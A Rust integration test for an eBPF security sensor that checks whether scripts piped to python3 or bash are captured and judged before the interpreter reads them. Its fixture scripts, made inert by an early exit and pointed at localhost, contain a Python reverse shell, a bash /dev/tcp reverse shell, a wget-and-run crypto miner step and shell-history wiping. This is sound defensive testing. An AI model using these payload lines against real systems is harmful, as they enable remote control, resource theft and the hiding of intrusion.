//! `sensor run` judges a script piped to an interpreter before the
//! interpreter reads a byte of it: the sensor peeks at the stdin pipe
//! (`tee(2)`, nothing taken) right after the exec.
//!
//! No timing: each interpreter is held at its exec by ptrace (the exec
//! stop comes after the exec is complete and before the new program runs a
//! single instruction), so it cannot read stdin until the test lets it go.
//! The finding, with the whole script as its contents, must come while it
//! is held; once let go, the interpreter must still read and run the whole
//! script (it prints a marker, then exits before its inert payload).
//! Needs root, eBPF and onnxruntime (`cargo xtask setup`).

#[path = "support/sensor.rs"]
mod sensor;

use std::io::Write;
use std::os::fd::{FromRawFd, OwnedFd};
use std::os::unix::fs::OpenOptionsExt;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};

use sensor::{wait_for, Sensor};
use serde_json::Value;

/// Inert: prints the marker and exits before the payload.
fn python_script(tag: &str) -> String {
    format!(
        "print('ran {tag}')\nimport sys\nsys.exit(0)\n\
import socket,subprocess,os\n\
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n\
s.connect(('127.0.0.1',4444))\n\
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\n\
p=subprocess.call(['/bin/sh','-i'])\n"
    )
}

/// Inert: prints the marker and exits before the payload.
fn bash_script(tag: &str) -> String {
    format!(
        "echo 'ran {tag}'\nexit 0\n\
cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; chmod +x /tmp/.x\n\
nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &\n\
bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n\
history -c; rm -f ~/.bash_history\n"
    )
}

fn pipe() -> (OwnedFd, std::fs::File) {
    let mut fds = [0 as libc::c_int; 2];
    // SAFETY: pipe2 writes two new fds, owned below.
    assert_eq!(unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) }, 0);
    // SAFETY: both fds are new and owned by nobody else.
    unsafe {
        (
            OwnedFd::from_raw_fd(fds[0]),
            std::fs::File::from_raw_fd(fds[1]),
        )
    }
}

/// `program -` (script on stdin) held at its exec (ptrace exec stop).
fn spawn_held(program: &str, stdin: OwnedFd) -> Child {
    let mut cmd = Command::new(program);
    cmd.arg("-")
        .stdin(Stdio::from(stdin))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    // SAFETY: ptrace(PTRACE_TRACEME) is async-signal-safe.
    unsafe {
        cmd.pre_exec(|| {
            if libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let child = cmd.spawn().expect("spawn the interpreter");
    let mut status = 0;
    // SAFETY: waitpid on our own child.
    let got = unsafe { libc::waitpid(child.id() as i32, &mut status, 0) };
    assert_eq!(got, child.id() as i32);
    assert!(
        libc::WIFSTOPPED(status) && libc::WSTOPSIG(status) == libc::SIGTRAP,
        "{program} did not stop at its exec (status {status:#x})"
    );
    child
}

/// Let a held interpreter go and return what it printed.
fn release(child: Child) -> String {
    // SAFETY: the child is our tracee, in its exec stop.
    let r = unsafe { libc::ptrace(libc::PTRACE_DETACH, child.id() as i32, 0, 0) };
    assert_eq!(r, 0, "detach: {}", std::io::Error::last_os_error());
    let out = child.wait_with_output().expect("interpreter output");
    assert!(out.status.success(), "{out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn contents(f: &Value) -> Option<&str> {
    f.pointer("/finding/processes/0/script/contents")?.as_str()
}

/// The finding whose contents carry `tag`, waited for (bounded) while the
/// interpreter is held.
fn finding_for<'a>(all: &'a [Value], tag: &str) -> Option<&'a Value> {
    all.iter()
        .find(|f| contents(f).is_some_and(|c| c.contains(&format!("ran {tag}"))))
}

fn check(output: &Path, program: &str, script: &str, tag: &str, writer_open_at_exec: bool) {
    let (read_end, mut writer) = pipe();
    let child = if writer_open_at_exec {
        // The writer is still writing when the interpreter starts (curl | bash).
        let child = spawn_held(program, read_end);
        writer.write_all(script.as_bytes()).unwrap();
        drop(writer);
        child
    } else {
        writer.write_all(script.as_bytes()).unwrap();
        drop(writer);
        spawn_held(program, read_end)
    };
    // The interpreter cannot have read anything: it is held at its exec.
    let all = wait_for(output, |all| finding_for(all, tag).is_some());
    let finding = finding_for(&all, tag)
        .unwrap_or_else(|| panic!("no finding for {tag} while {program} was held: {all:#?}"));
    assert_eq!(
        contents(finding),
        Some(script),
        "{tag}: the finding carries the whole script"
    );
    assert_eq!(
        finding.pointer("/finding/sourceProperties/content_origin"),
        Some(&Value::from("stdin_peek")),
        "{tag}: the bytes came from the peek"
    );
    let printed = release(child);
    assert!(
        printed.contains(&format!("ran {tag}")),
        "{tag}: {program} still read and ran its whole script, got {printed:?}"
    );
}

#[test]
fn piped_scripts_are_judged_before_the_interpreter_reads_them() {
    let dir = tempfile::tempdir().unwrap();
    let output = dir.path().join("findings.jsonl");
    let sensor = Sensor::start(&["run".as_ref(), "--output".as_ref(), output.as_os_str()]);
    let id = std::process::id();
    for (program, writer_open) in [
        ("/usr/bin/python3", false),
        ("/usr/bin/python3", true),
        ("/bin/bash", false),
        ("/bin/bash", true),
    ] {
        let tag = format!(
            "{}-{}-{id}",
            program.rsplit('/').next().unwrap(),
            if writer_open { "open" } else { "closed" }
        );
        let script = if program.ends_with("bash") {
            bash_script(&tag)
        } else {
            python_script(&tag)
        };
        check(&output, program, &script, &tag, writer_open);
    }
    let summary = sensor.stop();
    eprintln!("summary: {summary}");
}

/// `/proc/PID/syscall` says `pid` is blocked in openat(2).
fn in_openat(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/syscall"))
        .is_ok_and(|s| s.starts_with(&format!("{} ", libc::SYS_openat)))
}

#[test]
fn a_shell_that_read_part_of_its_script_is_judged_on_all_of_it() {
    let dir = tempfile::tempdir().unwrap();
    let output = dir.path().join("findings.jsonl");
    // Bash parks long before the kernel's copy would end: the pipeline
    // must not judge the partial copy meanwhile.
    let sensor = Sensor::start(&[
        "run".as_ref(),
        "--output".as_ref(),
        output.as_os_str(),
        "--content-wait-ms".as_ref(),
        "100000".as_ref(),
    ]);
    let fifo = dir.path().join("park");
    let c_fifo = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c_fifo.as_ptr(), 0o600) }, 0);
    let tag = format!("bash-joined-{}", std::process::id());
    // Line 1 parks bash in open(2) of the FIFO (on fd 3: a read on a
    // redirected fd 0 would count as reading the script).
    let first = format!(": 3<'{}'\n", fifo.display());
    let script = format!("{first}{}", bash_script(&tag));

    let (read_end, mut writer) = pipe();
    writer.write_all(first.as_bytes()).unwrap();
    let child = Command::new("/bin/bash")
        .arg("-")
        .stdin(Stdio::from(read_end))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn bash");
    // Not a timing assertion: a bound against hanging.
    let bound = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !in_openat(child.id()) {
        assert!(std::time::Instant::now() < bound, "bash never parked");
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    // Bash read line 1 and runs it; the rest comes now, then no writer is left.
    writer.write_all(&script.as_bytes()[first.len()..]).unwrap();
    drop(writer);

    let all = wait_for(&output, |all| finding_for(all, &tag).is_some());
    let finding = finding_for(&all, &tag)
        .unwrap_or_else(|| panic!("no finding for {tag} while bash was parked: {all:#?}"));
    assert_eq!(
        contents(finding),
        Some(script.as_str()),
        "the finding carries the whole script"
    );
    assert!(in_openat(child.id()), "bash is still parked");

    // Let bash go: its open completes once a writer comes.
    let release = std::fs::OpenOptions::new()
        .write(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(&fifo)
        .expect("open the FIFO for writing");
    drop(release);
    let out = child.wait_with_output().expect("bash output");
    assert!(out.status.success(), "{out:?}");
    let printed = String::from_utf8_lossy(&out.stdout);
    assert!(
        printed.contains(&format!("ran {tag}")),
        "bash still ran the rest of its script, got {printed:?}"
    );
    let summary = sensor.stop();
    eprintln!("summary: {summary}");
}
